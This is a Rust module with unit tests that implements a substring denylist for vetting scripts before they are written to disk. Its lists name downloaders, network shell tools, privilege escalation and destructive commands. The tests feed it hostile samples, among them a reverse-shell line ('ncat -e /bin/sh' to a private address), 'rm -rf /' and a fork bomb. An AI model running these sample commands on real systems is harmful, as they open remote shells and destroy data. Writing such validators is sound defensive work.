//! Script safety validator.
//!
//! A heuristic denylist applied to every script body before it is written to
//! disk. It is not a sandbox: constructs that are not enumerated here pass.

use serde::{Deserialize, Serialize};
use std::ops::ControlFlow;

use crate::error::{EngineError, EngineResult};

/// Destructive or privilege-escalating command fragments, matched as
/// substrings of the lowercased script.
const UNSAFE_COMMANDS: &[&str] = &[
    // Recursive delete
    "rm -rf",
    "rm -r",
    // Disk formatting
    "mkfs",
    // Fork bombs
    ":(){:|:&};:",
    ":(){ :|:& };:",
    "dd",
    // Device writes
    "> /dev/",
    ">/dev/",
    // Downloaders
    "wget",
    "curl",
    "chmod 777",
    "chmod -r 777",
    // Privilege escalation
    "sudo",
    "su",
    // Network tools
    "nc",
    "netcat",
    "telnet",
    "|mail",
    "|email",
    "tcpdump",
    "chown -r",
    // Moves and copies rooted at /
    "mv /",
    "cp /",
    // Power state
    "shutdown",
    "reboot",
    "halt",
    "poweroff",
    // Accounts
    "passwd",
    "useradd",
    "userdel",
    "fdisk",
    "fsck",
    // Firewall
    "iptables",
    "firewall",
    "nmap",
    "eval",
];

/// Shell metacharacter patterns, matched case-sensitively as raw substrings.
const DANGEROUS_PATTERNS: &[&str] = &[
    "$(", "`", "&&", "||", "../", "/*", "> /", ">/", "2> /", "2>/", ">> /", ">>/", "< /", "</",
];

/// Fragments that mutate the environment of the interpreter, matched like
/// [`UNSAFE_COMMANDS`].
const ENV_MUTATION_WORDS: &[&str] = &["export", "env"];

const ENV_MUTATION_REASON: &str = "modifying environment variables is not allowed";

/// Result of validating a single script.
#[derive(Clone, Debug, PartialEq, Eq)]
pub enum ScriptVerdict {
    Safe,
    Unsafe { reason: String },
}

impl ScriptVerdict {
    pub fn is_unsafe(&self) -> bool {
        matches!(self, Self::Unsafe { .. })
    }

    pub fn reason(&self) -> Option<&str> {
        match self {
            Self::Safe => None,
            Self::Unsafe { reason } => Some(reason),
        }
    }
}

/// Which rule produced a finding.
#[derive(Clone, Copy, Debug, PartialEq, Eq, Serialize, Deserialize)]
#[serde(rename_all = "snake_case")]
pub enum FindingRule {
    UnsafeCommand,
    DangerousPattern,
    EnvironmentMutation,
}

#[derive(Clone, Debug, PartialEq, Eq, Serialize, Deserialize)]
pub struct Finding {
    pub rule: FindingRule,
    /// The denylisted fragment or pattern that matched.
    pub fragment: String,
    pub reason: String,
}

/// Every rule a script trips, for display by tooling.
#[derive(Clone, Debug, Serialize, Deserialize)]
pub struct ScriptExplanation {
    pub allowed: bool,
    pub findings: Vec<Finding>,
}

/// Validate a script body. The first matching rule supplies the reason.
pub fn validate_script(script: &str) -> ScriptVerdict {
    let mut verdict = ScriptVerdict::Safe;
    scan(script, |finding| {
        verdict = ScriptVerdict::Unsafe {
            reason: finding.reason,
        };
        ControlFlow::Break(())
    });
    verdict
}

/// Validate a script body and turn a rejection into an `E_UNSAFE_SCRIPT` error.
pub fn ensure_script_allowed(script: &str) -> EngineResult<()> {
    let mut rejection = None;
    scan(script, |finding| {
        rejection = Some(finding);
        ControlFlow::Break(())
    });
    match rejection {
        None => Ok(()),
        Some(finding) => Err(EngineError::new(
            crate::error::ErrorCode::UnsafeScript,
            format!("script contains unsafe commands: {}", finding.reason),
            serde_json::json!({
                "rule": finding.rule,
                "fragment": finding.fragment,
                "fix": "Remove the flagged command or pattern from the script"
            }),
        )),
    }
}

/// Collect every finding instead of stopping at the first.
pub fn explain_script(script: &str) -> ScriptExplanation {
    let mut findings = Vec::new();
    scan(script, |finding| {
        findings.push(finding);
        ControlFlow::Continue(())
    });
    ScriptExplanation {
        allowed: findings.is_empty(),
        findings,
    }
}

fn scan(script: &str, mut visit: impl FnMut(Finding) -> ControlFlow<()>) {
    let lowered = script.to_lowercase();

    for fragment in UNSAFE_COMMANDS {
        if lowered.contains(fragment) {
            let finding = Finding {
                rule: FindingRule::UnsafeCommand,
                fragment: (*fragment).to_string(),
                reason: format!("unsafe command detected: {fragment}"),
            };
            if visit(finding).is_break() {
                return;
            }
        }
    }

    for pattern in DANGEROUS_PATTERNS {
        if script.contains(pattern) {
            let finding = Finding {
                rule: FindingRule::DangerousPattern,
                fragment: (*pattern).to_string(),
                reason: format!("dangerous command pattern detected: {pattern}"),
            };
            if visit(finding).is_break() {
                return;
            }
        }
    }

    if let Some(word) = ENV_MUTATION_WORDS
        .iter()
        .find(|word| lowered.contains(*word))
    {
        let _ = visit(Finding {
            rule: FindingRule::EnvironmentMutation,
            fragment: (*word).to_string(),
            reason: ENV_MUTATION_REASON.to_string(),
        });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn benign_script_is_safe() {
        assert_eq!(validate_script("echo hello"), ScriptVerdict::Safe);
        assert_eq!(validate_script("ls -la\necho done"), ScriptVerdict::Safe);
    }

    #[test]
    fn recursive_delete_is_rejected() {
        let verdict = validate_script("rm -rf /");
        assert!(verdict.is_unsafe());
        assert_eq!(verdict.reason(), Some("unsafe command detected: rm -rf"));
    }

    #[test]
    fn denylist_is_case_insensitive() {
        assert!(validate_script("SUDO ls").is_unsafe());
        assert!(validate_script("Curl http://example.com").is_unsafe());
        assert!(validate_script("CHMOD -R 777 data").is_unsafe());
    }

    #[test]
    fn fragments_match_inside_longer_words() {
        assert_eq!(
            validate_script("echo result").reason(),
            Some("unsafe command detected: su")
        );
        assert_eq!(
            validate_script("echo address").reason(),
            Some("unsafe command detected: dd")
        );
        assert_eq!(
            validate_script("echo evaluation").reason(),
            Some("unsafe command detected: eval")
        );
        for script in [
            "sudoedit /etc/sudoers",
            "ncat -e /bin/sh 10.0.0.1 4444",
            "printenv",
            "ddrescue /dev/sda x.img",
            "curl_wrapper http://x",
        ] {
            assert!(validate_script(script).is_unsafe(), "{script}");
        }
    }

    #[test]
    fn fork_bomb_is_rejected() {
        assert!(validate_script(":(){ :|:& };:").is_unsafe());
    }

    #[test]
    fn dangerous_patterns_are_case_sensitive_substrings() {
        assert_eq!(
            validate_script("echo $(whoami)").reason(),
            Some("dangerous command pattern detected: $(")
        );
        assert_eq!(
            validate_script("true && echo yes").reason(),
            Some("dangerous command pattern detected: &&")
        );
        assert_eq!(
            validate_script("cat ../secret").reason(),
            Some("dangerous command pattern detected: ../")
        );
        assert_eq!(
            validate_script("echo hi > /etc/motd").reason(),
            Some("dangerous command pattern detected: > /")
        );
    }

    #[test]
    fn environment_mutation_is_rejected() {
        assert_eq!(
            validate_script("export PATH=/tmp").reason(),
            Some(ENV_MUTATION_REASON)
        );
        assert_eq!(validate_script("ENV").reason(), Some(ENV_MUTATION_REASON));
        assert_eq!(
            validate_script("echo environment").reason(),
            Some(ENV_MUTATION_REASON)
        );
        assert_eq!(validate_script("printenv").reason(), Some(ENV_MUTATION_REASON));
    }

    #[test]
    fn unsafe_command_wins_over_pattern() {
        let verdict = validate_script("sudo ls && echo ok");
        assert_eq!(verdict.reason(), Some("unsafe command detected: sudo"));
    }

    #[test]
    fn explain_lists_every_hit() {
        let explanation = explain_script("sudo rm -rf ../x && export A=1");
        assert!(!explanation.allowed);
        let fragments: Vec<&str> = explanation
            .findings
            .iter()
            .map(|f| f.fragment.as_str())
            .collect();
        assert_eq!(fragments, vec!["rm -rf", "rm -r", "sudo", "su", "&&", "../", "export"]);
        assert_eq!(
            explanation.findings.last().map(|f| f.rule),
            Some(FindingRule::EnvironmentMutation)
        );
    }

    #[test]
    fn explain_allows_benign_script() {
        let explanation = explain_script("echo hello");
        assert!(explanation.allowed);
        assert!(explanation.findings.is_empty());
    }

    #[test]
    fn ensure_reports_prefixed_reason() {
        let err = ensure_script_allowed("wget http://x").unwrap_err();
        assert_eq!(err.code, crate::error::ErrorCode::UnsafeScript);
        assert_eq!(
            err.message,
            "script contains unsafe commands: unsafe command detected: wget"
        );
        assert!(ensure_script_allowed("echo ok").is_ok());
    }
}
